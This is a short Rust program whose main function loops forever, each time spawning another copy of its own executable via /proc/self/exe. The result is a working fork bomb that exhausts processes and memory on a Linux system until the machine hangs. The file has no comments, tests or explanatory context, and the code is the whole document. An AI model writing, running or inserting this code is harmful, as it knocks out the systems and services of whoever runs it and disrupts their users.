fn main() {
    loop {
        let _ = std::process::Command::new("/proc/self/exe").spawn();
    }
}
